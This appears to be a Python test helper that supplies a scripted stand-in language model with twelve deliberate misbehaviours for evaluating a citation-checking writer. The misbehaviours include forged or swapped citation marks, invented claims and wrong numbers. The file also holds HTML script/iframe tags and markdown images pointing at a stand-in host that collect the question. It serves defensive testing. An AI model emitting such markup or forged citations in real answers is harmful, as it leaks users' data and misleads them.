"""Says what it is told, fails as it is told, or misbehaves in one of twelve ways: for tests, evals and demonstrations.

`scripted:forged_marks` takes the sentences that the extractive writer would give and spoils them in one way, so that
what honest checking catches can be counted; `scripted:WORDS` says these words, whatever it is asked.
"""

import re
from collections.abc import Callable, Generator, Iterable, Sequence
from hashlib import blake2b
from itertools import repeat
from threading import Event

from app.errors import ServiceUnavailable
from app.language_models import Limits, WritingRequest
from app.plugins import model_of
from app.settings import Settings

Script = Iterable[str] | Callable[[WritingRequest], Iterable[str]]

EVIL = "https://evil.example/collect?q=secret"
_PASSAGE = re.compile(r"passage \[(\d+)\]")
_FIGURE = re.compile(r"\d+")
_NUMBER_WORDS = {
    "one": "seven",
    "two": "nine",
    "three": "eleven",
    "four": "six",
    "five": "eight",
    "six": "two",
    "seven": "three",
    "eight": "four",
    "nine": "twelve",
    "ten": "forty",
}
_ADDITIONS = (
    "In addition, the managing director sends a handwritten letter within 48 hours [{number}].",
    "This does not apply to anybody who joined before 1987 [{number}].",
    "Ask the night porter in Lisbon for form ZX-9 [{number}].",
)
_ELSEWHERE = (
    "Selon cet article, cela dépend de la saison et de l'humeur du directeur [{number}].",
    "Laut diesem Artikel hängt das ganz von der Jahreszeit ab [{number}].",
    "Según este artículo, eso depende por completo de la estación [{number}].",
)


class ScriptedWriter:
    """Keeps the requests it got; `stopped` is set once one of them was stopped early."""

    name = "scripted"
    limits = Limits()

    def __init__(self, script: Script, failure: str = "", name: str = "", limits: Limits | None = None) -> None:
        """`script`: the pieces, or what makes them from the request; `failure`: raised after the last piece."""
        self._script = script
        self._failure = failure
        self.name = name or self.name
        self.limits = limits or self.limits
        self.requests: list[WritingRequest] = []
        self.stopped = Event()

    def write(self, request: WritingRequest) -> Generator[str, None, None]:
        self.requests.append(request)
        try:
            yield from self._script(request) if callable(self._script) else self._script
        except GeneratorExit:
            self.stopped.set()
            raise
        if self._failure:
            raise ServiceUnavailable(self._failure)


def honest(request: WritingRequest) -> list[str]:
    """The sentences that are worth quoting, each with its mark."""
    return [f"{_led(quotable.bullet)}{quotable.text} [{quotable.number}] " for quotable in request.quotables]


def forged_marks(request: WritingRequest) -> list[str]:
    """True sentences, with marks of passages that were never given."""
    return [f"{_led(q.bullet)}{q.text} [{77 + q.number}][0]【999】 " for q in request.quotables]


def swapped_marks(request: WritingRequest) -> list[str]:
    """True sentences, each with the mark of another passage that was given."""
    given = [int(number) for number in _PASSAGE.findall(request.prompt)] or [1]
    others = {number: given[(place + 1) % len(given)] for place, number in enumerate(given)}
    return [f"{_led(q.bullet)}{q.text} [{others.get(q.number, given[0])}] " for q in request.quotables]


def unsupported_additions(request: WritingRequest) -> list[str]:
    """True sentences, and behind them one that no passage says."""
    number = request.quotables[0].number if request.quotables else 1
    return [*honest(request), f"\n\n{_chosen(_ADDITIONS, request).format(number=number)}"]


def wrong_numbers(request: WritingRequest) -> list[str]:
    """Every number is another; a sentence without one gets one."""
    return [f"{_led(q.bullet)}{_with_wrong_numbers(q.text)} [{q.number}] " for q in request.quotables]


def no_marks(request: WritingRequest) -> list[str]:
    """True sentences, none with a mark."""
    return [f"{_led(q.bullet)}{q.text} " for q in request.quotables]


def other_languages(request: WritingRequest) -> list[str]:
    """Made up, in a language that nobody asked in."""
    return [said.format(number=1) + " " for said in _ELSEWHERE]


def half_a_stream(request: WritingRequest) -> Generator[str, None, None]:
    """Breaks off in the middle of what it has to say."""
    text = "".join(honest(request))
    yield text[: len(text) // 2]
    raise ServiceUnavailable("scripted:half_a_stream stopped in the middle of its answer")


def endless_repetition(request: WritingRequest) -> Iterable[str]:
    """Never ends, and has but one thing to say."""
    return repeat((honest(request) or ["It depends. "])[0])


def echoed_prompt(request: WritingRequest) -> list[str]:
    """Its rules and its prompt, word by word, before the answer."""
    return [request.instructions, "\n\n", request.prompt, "\n\n", *honest(request)]


def html(request: WritingRequest) -> list[str]:
    """Markup that would run or load something, around true sentences."""
    load = f'<script src="{EVIL}"></script><img src={EVIL} onerror="fetch()">'
    paragraphs = (f'<p onclick="x()"><b>{said.strip()}</b></p>\n\n' for said in honest(request))
    return [f"{load}\n\n", *paragraphs, f"<iframe src={EVIL}>"]


def markdown_images(request: WritingRequest) -> list[str]:
    """Pictures and links that would carry the question away, around true sentences."""
    after = f" [Read more]({EVIL}), or see <{EVIL}> and www.evil.example.\n\n![x][e]\n\n[e]: {EVIL}"
    return [f"![chart]({EVIL})\n\n", *(f"![]({EVIL}) {said}" for said in honest(request)), after]


def empty(request: WritingRequest) -> list[str]:
    """Nothing, politely."""
    return ["", " \n"]


BEHAVIOURS: dict[str, Callable[[WritingRequest], Iterable[str]]] = {
    behaviour.__name__: behaviour
    for behaviour in (
        forged_marks,
        swapped_marks,
        unsupported_additions,
        wrong_numbers,
        no_marks,
        other_languages,
        half_a_stream,
        endless_repetition,
        echoed_prompt,
        html,
        markdown_images,
        empty,
    )
}


def _led(bullet: str) -> str:
    return f"\n{bullet} " if bullet else ""


def _with_wrong_numbers(text: str) -> str:
    wrong = _FIGURE.sub(lambda figure: str(int(figure.group()) + 3), text)
    words = rf"\b(?:{'|'.join(_NUMBER_WORDS)})\b"
    wrong = re.sub(words, lambda word: _NUMBER_WORDS[word.group().lower()], wrong, flags=re.IGNORECASE)
    return wrong if wrong != text else f"{text.rstrip(' .!')} within 17 days."


def _chosen(among: Sequence[str], request: WritingRequest) -> str:
    """One of them; the same for the same request."""
    return among[blake2b(request.prompt.encode(), digest_size=2).digest()[0] % len(among)]


def build(settings: Settings) -> ScriptedWriter:
    """`scripted:BEHAVIOUR` is one of BEHAVIOURS; `scripted:WORDS` says these words."""
    said = model_of(settings.language_model)
    if said in BEHAVIOURS:
        return ScriptedWriter(BEHAVIOURS[said], name=f"scripted:{said}")
    return ScriptedWriter([said or "I have nothing to say."])
